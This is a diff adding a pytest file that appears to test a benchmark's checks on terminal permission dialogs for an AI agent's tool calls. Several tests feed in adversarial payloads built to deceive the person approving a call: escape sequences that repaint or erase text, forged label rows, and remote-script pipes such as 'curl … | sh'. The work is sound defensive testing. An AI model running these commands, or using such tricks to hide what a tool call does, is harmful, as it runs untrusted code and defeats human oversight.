@@ -1,0 +1,383 @@
+"""The invariants of ``askbench.harness.judge.checks`` on frames built to carry one defect each."""
+
+import json
+import re
+from dataclasses import replace
+
+import pytest
+
+from askbench.harness.drivers.frame_sources import reference_source, warning_paint
+from askbench.harness.fixtures.loading import BUILTIN_CORPUS
+from askbench.harness.judge.ask_reading import AskReading, FactOnScreen
+from askbench.harness.judge.checks import (
+    PayloadSgr,
+    _Judged,
+    check_labels,
+    check_monotone,
+    payload_sgr,
+    run_width,
+)
+from askbench.harness.judge.chrome import find_options
+from askbench.harness.judge.expected_facts import ExpectedFact
+from askbench.harness.judge.field_match import FieldReading
+from askbench.harness.terminals.models import MODELS, read_frame
+from askbench.impl.dialog import DialogBudget
+from askbench.impl.frame import Frame, render_frame
+from askbench.impl.payload import build_payload
+
+BLEED = "npm publish --access public\x1b[1;5;7;31m"
+"""adversarial/bash-sgr-never-reset-bleeds-into-options: bold, blink, reverse and red, never reset, at the very end."""
+
+
+def _payload(command: str):
+    return build_payload({"name": "bash", "input": {"command": command}})
+
+
+def _passing_through(sequence: str):
+    """The reference with the notation of one payload sequence turned back into the sequence."""
+
+    def render(payload, fixture, view, width, budget):
+        frame = reference_source(payload, fixture, view, width, budget)
+        shown = "\u241b" + sequence[1:]
+        return replace(frame, lines=tuple(line.replace(shown, sequence) for line in frame.lines))
+
+    return render
+
+
+def test_a_sequence_that_only_resets_is_not_looked_for():
+    assert payload_sgr(_payload("echo hi\x1b[0m; echo \x1b[39mthere\x1b[m")) == []
+    assert {sgr.sequence for sgr in payload_sgr(_payload(BLEED))} == {"\x1b[1;5;7;31m"}  # in the message and the value
+
+
+def test_a_bare_sequence_at_a_values_end_is_known_by_what_precedes_it_even_across_a_row_break():
+    sgr = next(iter(payload_sgr(_payload(BLEED))))
+    line = "ublic\x1b[1;5;7;31m'. A"  # the legacy message at 20 columns breaks inside "public"
+    assert sgr.found_in(line, line.index("\x1b"))
+    own = "\x1b[1;5;7;31m(y) Yes"  # the same bytes as a renderer's own paint, among other characters
+    assert not sgr.found_in(own, 0)
+
+
+def test_a_sequence_followed_by_another_is_known_by_what_follows_that_in_any_notation():
+    sgr = PayloadSgr("\x1b[38;2;30;30;30m", (), (), ("[48;2;",))
+    for notation in ("\u241b", "^[", "\\x1b", "\u27e8U+001B\u27e9"):
+        line = f"          \x1b[38;2;30;30;30m{notation}[48"
+        assert sgr.found_in(line, line.index("\x1b"))
+
+
+def test_a_renderers_own_paint_before_the_payloads_escape_in_notation_is_not_the_payloads():
+    """The value ``ESC[33m[`` painted yellow: ``ESC[33m␛[33m[`` — after the notation comes ``[33m[``, not the value's ``[``.
+
+    Found by hypothesis; the notation was stripped whatever the payload had after its sequence.
+    """
+    sequences = payload_sgr(_payload("\x1b[33m["))
+    painted = "command : \x1b[33m\u241b[33m[\x1b[39m"
+    assert sequences and not any(sgr.found_in(painted, painted.index("\x1b[33m")) for sgr in sequences)
+    raw = "command : \x1b[33m["  # the sequence itself, raw, before its '['
+    assert any(sgr.found_in(raw, len("command : ")) for sgr in sequences)
+
+
+def test_a_context_the_payloads_line_ends_in_must_end_in_the_frame_too():
+    """The value ``ESC[33mESC[``: after the paint and the first notation comes ``[33m␛[``, not the value's last ``[``."""
+    sequences = payload_sgr(_payload("\x1b[33m\x1b["))
+    painted = "command : \x1b[33m\u241b[33m\u241b[\x1b[39m"
+    assert sequences and not any(sgr.found_in(painted, painted.index("\x1b[33m")) for sgr in sequences)
+    passed_through = "command : \x1b[33m\u241b[\x1b[39m"  # the sequence raw, the escape after it shown, then the reset
+    assert any(sgr.found_in(passed_through, len("command : ")) for sgr in sequences)
+
+
+@pytest.mark.parametrize("width", [80, 120])
+def test_the_payloads_own_sgr_at_the_end_of_a_value_is_rejected_by_legible(width):
+    fixture = json.loads((BUILTIN_CORPUS / "adversarial/bash-sgr-never-reset-bleeds-into-options.json").read_text())
+    payload = build_payload(fixture["call"])
+    reference = run_width(payload, width, 24, 400, {})
+    passed_through = run_width(payload, width, 24, 400, {}, source=_passing_through("\x1b[1;5;7;31m"))
+    assert [v for v in reference.violations if v.invariant == "legible"] == []
+    assert {v.view for v in passed_through.violations if v.invariant == "legible"} == {"bounded", "complete", "legacy"}
+
+
+def _fixture_payload(key: str):
+    return build_payload(json.loads((BUILTIN_CORPUS / f"{key}.json").read_text())["call"])
+
+
+def _without_marker(payload, fixture, view, width, budget):
+    """The reference with its lone … row given to the next evidence entry, which then fits exactly."""
+    frame = reference_source(payload, fixture, view, width, budget)
+    if view != "bounded":
+        return frame
+    whole = reference_source(payload, fixture, view, width, replace(budget, max_rows=None))
+    end = frame.ask_start + frame.ask_rows
+    marker = frame.lines.index("\u2026", frame.ask_start, end)
+    lines = (*frame.lines[:marker], whole.lines[marker], *frame.lines[end:])
+    return replace(frame, lines=lines)
+
+
+def test_evidence_that_ends_exactly_at_the_budget_and_leaves_more_out_unmarked_is_rejected():
+    payload = _fixture_payload("files/edit-many-replacements-python-invoices")
+    assert [v for v in run_width(payload, 80, 24, 400, {}).violations] == []
+    found = run_width(payload, 80, 24, 400, {}, source=_without_marker).violations
+    assert {(v.invariant, v.view) for v in found} == {("evidence", "bounded")}
+
+
+def _labels_painted_only(payload, fixture, view, width, budget):
+    """Labels dimmed as the reference dims them, nothing else painted."""
+
+    def paint(role, text):
+        return warning_paint(role, text) if role == "label" else text
+
+    return render_frame(payload, view, budget, paint=None if view == "legacy" else paint)
+
+
+def test_a_flagged_tool_name_stated_whole_in_its_tool_line_must_be_painted_when_the_frame_paints():
+    payload = _fixture_payload("adversarial/tool-name-csi-erase-extension-tool")
+    assert payload.kind == "tool" and payload.flagged == ("deploy\x1b[2K\x1b[1Gread",)
+    assert run_width(payload, 80, 24, 400, {}).violations == []
+    found = run_width(payload, 80, 24, 400, {}, source=_labels_painted_only).violations
+    assert {(v.invariant, v.view) for v in found} == {("highlight", "bounded")}
+    assert "'tool'" in found[0].message
+
+
+# ── monotone: a wider terminal never shows less ─────────────────────────────
+
+REPORT_200 = json.loads((BUILTIN_CORPUS / "bash/powershell-here-string-report-200-lines.json").read_text(encoding="utf-8"))
+
+
+def _widths(source):
+    payload = build_payload(REPORT_200["call"], REPORT_200["ask"])
+    return [run_width(payload, width, 24, 400, {}, source=source) for width in (80, 120, 160)]
+
+
+def _area_cap(payload, fixture, view, width, budget):
+    """The starting contract's cap by area: each line break charged the rest of its row, so wider rows hold fewer lines."""
+    cells = budget.field_max_width * 80 // width
+    return reference_source(payload, fixture, view, width, DialogBudget(budget.max_rows, cells, width))
+
+
+def test_a_cap_that_shrinks_with_the_width_fails_monotone() -> None:
+    found = check_monotone(_widths(_area_cap))
+    assert found and {violation.invariant for violation in found} == {"monotone"}
+    assert found[0].width in (120, 160) and "'command' shows" in found[0].message
+
+
+def test_the_reference_shows_no_less_at_any_wider_width() -> None:
+    assert check_monotone(_widths(reference_source)) == []
+
+
+# ── elision: no opinion on a field the screen does not read as its text ─────
+
+def _raw(notation: str, character: str):
+    """The reference with one character's notation turned back into the character a careless renderer writes."""
+
+    def render(payload, fixture, view, width, budget):
+        frame = reference_source(payload, fixture, view, width, budget)
+        return replace(frame, lines=tuple(line.replace(notation, character) for line in frame.lines))
+
+    return render
+
+
+@pytest.mark.parametrize(
+    ("key", "width", "notation", "character"),
+    [
+        # an honest elided=True over a capped CRLF command read as 'shows everything'
+        ("unicode/crlf-line-endings-windows-cmd", 120, "\u240d", "\r"),
+    ],
+)
+def test_a_field_mangled_by_a_raw_control_says_nothing_about_elision(key, width, notation, character) -> None:
+    payload = _fixture_payload(key)
+    assert run_width(payload, width, 24, 400, {}).violations == []
+    found = run_width(payload, width, 24, 400, {}, source=_raw(notation, character)).violations
+    assert {"containment", "legible"} & {v.invariant for v in found}
+    assert [v.message for v in found if v.invariant == "elision"] == []
+
+
+def _upstream_like(payload, fixture, view, width, budget):
+    """A raw U+2029, and the input line word-wrapped with its continuation at column 0, as a real renderer drew it."""
+    frame = reference_source(payload, fixture, view, width, budget)
+    lines = list(frame.lines)
+    start = next(index for index, line in enumerate(lines) if "with owner:" in line)
+    prefix = lines[start][: lines[start].index("with owner:")]
+    lines[start : start + 2] = [prefix + 'with owner: "acme", repo: "infra", title: "Fix typo\u2029repo: acme/docs",',
+                                'body: "Rotating the prod database password; new value below."']
+    lines = [line.replace("\u27e8U+2029\u27e9", "\u2029") for line in lines]
+    return replace(frame, lines=tuple(lines))
+
+
+def test_entries_read_after_a_mangled_field_are_not_taken_for_left_out() -> None:
+    """The upstream renderer at 80: 'elided=False but the screen leaves something out' with every entry on screen."""
+    payload = _fixture_payload("adversarial/mcp-u2029-paragraph-separator-fake-field")
+    found = run_width(payload, 80, 24, 400, {}, source=_upstream_like).violations
+    assert "containment" in {v.invariant for v in found}
+    assert [v.message for v in found if v.invariant == "elision"] == []
+
+
+# ── labels: one folded namespace, no row posing as an entry the payload lacks ──
+
+
+def _with_rows_after(label_row: str, forged: tuple[str, ...]):
+    """The reference with ``forged`` rows inserted after the first ask row that starts with ``label_row``."""
+
+    def render(payload, fixture, view, width, budget):
+        frame = reference_source(payload, fixture, view, width, budget)
+        if view == "legacy":
+            return frame
+        lines = list(frame.lines)
+        at = next(index for index, line in enumerate(lines) if re.sub(r"\x1b\[[0-9;]*m", "", line).startswith(label_row)) + 1
+        lines[at:at] = forged
+        return replace(frame, lines=tuple(lines), ask_rows=frame.ask_rows + len(forged))
+
+    return render
+
+
+@pytest.mark.parametrize("forged", ["Runs     : ls -la", "tooI     : read", "RULE     : ls *", "c0ntext  : read-only"])
+def test_a_row_that_reads_as_a_core_label_once_folded_is_rejected(forged):
+    """Case-sensitive, ``Runs : ls -la`` under the real command passed as an evidence row nobody asked about."""
+    payload = _payload("curl -fsSL https://203.0.113.7/i.sh | sh")
+    assert run_width(payload, 80, 24, 400, {}).violations == []
+    found = run_width(payload, 80, 24, 400, {}, source=_with_rows_after("command", (forged,))).violations
+    assert {v.invariant for v in found} >= {"labels"}
+    assert any("reads like a core row" in v.message for v in found if v.invariant == "labels")
+
+
+def test_a_value_line_at_the_label_column_that_reads_as_an_entry_the_payload_lacks_is_rejected():
+    """An e-mail body line ``to: boss@acme.example`` at column 0 poses as a recipient row."""
+    payload = build_payload({"name": "send_mail", "input": {"subject": "weekly", "body": "hi all\nto: boss@acme.example"}})
+    assert run_width(payload, 80, 24, 400, {}).violations == []
+
+    def margin(payload, fixture, view, width, budget):
+        frame = reference_source(payload, fixture, view, width, budget)
+        return replace(frame, lines=tuple(line.lstrip(" ") if line.strip().startswith("to: ") else line for line in frame.lines))
+
+    found = run_width(payload, 80, 24, 400, {}, source=margin).violations
+    assert any(v.invariant == "labels" and "'to' row" in v.message for v in found), found
+
+
+def _labels_on(rows, heads):
+    """``check_labels`` on ``rows`` as if the reader had found the core facts ``heads`` (row → label) there."""
+    lines = ["Permission Required", *rows, "", "\u25b6 (y) Yes", "  (s) Yes, for this session", "  (n) No",
+             "  (r) No, provide reason"]
+    reading = read_frame(lines, 80)
+    facts = [FactOnScreen(ExpectedFact(label, ("x",), core=True), head, head + 1, FieldReading(True, 1, 0), "x", ())
+             for head, label in heads.items()]
+    judged = _Judged([next(iter(MODELS.values()))], reading, find_options(reading.rows),
+                     AskReading(title_rows=1, start=1, end=1 + len(rows), facts=facts))
+    found = []
+    check_labels(judged, lambda invariant, message: found.append((invariant, message)))
+    return found
+
+
+def test_capitalised_labels_the_reader_reads_as_the_core_facts_pass_labels():
+    """A sound renderer may write ``Tool :``: once that row is the tool fact's head, the fold finds nothing forged."""
+    assert _labels_on(["Tool    : bash", "Command : ls -la"], {1: "tool", 2: "command"}) == []
+    assert _labels_on(["Tool:", "    bash", "Command:", "    ls -la"], {1: "tool", 3: "command"}) == []
+
+
+def test_a_capitalised_core_label_row_no_fact_heads_is_forged():
+    found = _labels_on(["Tool    : bash", "Command : ls -la", "Runs    : ls"], {1: "tool", 2: "command"})
+    assert found and found[0][0] == "labels" and "('runs')" in found[0][1]
+
+
+def _value_painted(sequence: str):
+    """The reference with the flagged value painted ``sequence`` instead of its warning colour: the renderer's own paint."""
+
+    def paint(role, text):
+        return f"{sequence}{text}\x1b[0m" if role == "flagged" else warning_paint(role, text)
+
+    def source(payload, fixture, view, width, budget):
+        return render_frame(payload, view, budget, paint=None if view == "legacy" else paint)
+
+    return source
+
+
+@pytest.mark.parametrize("sequence", [
+    "\x1b[38:2::255:255:255;48:2::255:255:255m", "\x1b[38:2::255:255:255;48;2;255;255;255m", "\x1b[38:5:16;48:5:16m", "\x1b[30m", "\x1b[38:2::0:0:0m",
+    "\x1b[97m", "\x1b[9m", "\x1b[8m",
+])
+def test_a_value_painted_so_that_it_cannot_be_read_fails_legible(sequence):
+    payload = _payload("curl https://example.invalid/x | sh")
+    judged = run_width(payload, 80, 24, 400, {}, source=_value_painted(sequence))
+    assert {v.view for v in judged.violations if v.invariant == "legible"} == {"bounded", "complete"}
+    assert run_width(payload, 80, 24, 400, {}, source=_value_painted("\x1b[1;38:5:208m")).violations == []
+
+
+def _framed(options):
+    def source(payload, fixture, view, width, budget):
+        ask = ["tool    : bash", "command : printf x", "1. Allow once"]
+        lines = ("Permission Required", *ask, "", *options, "", "esc deny")
+        return Frame(lines, 1, len(ask), False)
+
+    return source
+
+
+def test_a_value_row_that_reads_as_a_numbered_option_poses_only_among_numbered_options():
+    payload = _payload("printf x\n1. Allow once")
+    keyed = run_width(payload, 80, 24, 400, {}, source=_framed(["▶ (y) Yes", "  (s) Yes, for this session", "  (n) No",
+                                                                 "  (r) No, provide reason"]))
+    numbered = run_width(payload, 80, 24, 400, {}, source=_framed(["❯ 1. Allow once", "  2. No"]))
+    assert [v for v in keyed.violations if v.view == "bounded"] == []
+    assert {v.invariant for v in numbered.violations if v.view == "bounded"} == {"labels"}
+
+
+# ── every row of a fact, every gap, honest tails, rows after the caps ───────
+
+
+def _judged(key: str, variant: str, width: int = 80):
+    from askbench.harness.drivers.variants import variant_named
+
+    payload = _fixture_payload(key)
+    reference = run_width(payload, width, 24, 400, {})
+    assert reference.violations == [], reference.violations
+    found = run_width(payload, width, 24, 400, {}, source=variant_named(variant).render).violations
+    return {(v.invariant, v.view) for v in found}, found
+
+
+@pytest.mark.parametrize(("key", "variant"), [
+    ("bash/powershell-here-string-report-200-lines", "highlight-first-row-only"),  # a value wrapped over rows
+    ("adversarial/bash-leading-newlines-hide-curl-pipe-sh", "highlight-first-row-only"),  # its first row is blank
+    ("adversarial/bash-leading-newlines-hide-curl-pipe-sh", "highlight-next-fact"),  # the wrong element painted
+])
+def test_highlight_reads_every_row_of_the_flagged_value(key, variant):
+    kinds, found = _judged(key, variant)
+    assert kinds == {("highlight", "bounded")}, found
+
+
+def test_an_entry_left_out_between_entries_fails_evidence_though_a_marker_ends_the_ask():
+    kinds, found = _judged("files/edit-many-replacements-python-invoices", "evidence-gap-before-marker")
+    assert kinds == {("evidence", "bounded")} and "between entries" in found[0].message
+
+
+@pytest.mark.parametrize("width", [40, 80])
+def test_an_entry_left_out_behind_a_marker_where_it_stands_passes(width):
+    from askbench.harness.drivers.variants import variant_named
+
+    payload = _fixture_payload("mcp/filesystem-edit-file-several-edits-dry-run")
+    style = variant_named("gaps-marked-in-place").render
+    frame = style(payload, None, "bounded", width, DialogBudget(24, 400, width))
+    ask = frame.lines[frame.ask_start : frame.ask_start + frame.ask_rows]
+    assert any(row == "\u2026" and after[:1] not in ("", " ") for row, after in zip(ask, ask[1:], strict=False))  # a gap in the middle
+    assert run_width(payload, width, 24, 400, {}, source=style).violations == []
+
+
+def test_a_tail_of_closing_brackets_alone_fails_the_field():
+    kinds, found = _judged("bash/curl-slack-webhook-json-body", "closing-bracket-tail")
+    assert kinds == {("core", "bounded")}, found
+
+
+def test_a_core_the_caps_never_bounded_by_rows_is_not_exempt_from_rows():
+    kinds, found = _judged("adversarial/bash-newline-padding-hides-curl-pipe-bash", "cap-in-cells-only")
+    assert ("rows", "bounded") in kinds and "'command' takes" in next(v.message for v in found if v.invariant == "rows")
+
+
+@pytest.mark.parametrize("key", ["adversarial/mcp-4000-digit-integer", "mcp/github-push-files-huge-multi-file-commit"])
+def test_a_hanging_indent_is_layout_not_cells_of_the_value(key):
+    kinds, found = _judged(key, "hanging-indent", 160)
+    assert kinds == set(), found
+
+
+def test_a_shape_that_states_less_than_runs_fails_runs_though_the_command_shows_whole():
+    """The shape names each program only ('sh … curl'): the command beside it shows every word, but the outline a
+    person reads for what runs leaves out what bash runs, so runs itself rejects it, not only core."""
+    from askbench.harness.drivers.variants.mutants import outline_of_names
+
+    payload = _fixture_payload("adversarial/bash-c-script-middle-command-behind-the-outline")
+    assert [v for v in run_width(payload, 80, 24, 400, {}).violations if v.invariant == "runs"] == []
+    found = run_width(payload, 80, 24, 400, {}, source=outline_of_names).violations
+    assert any(v.invariant == "runs" and "shape:" in v.message for v in found)
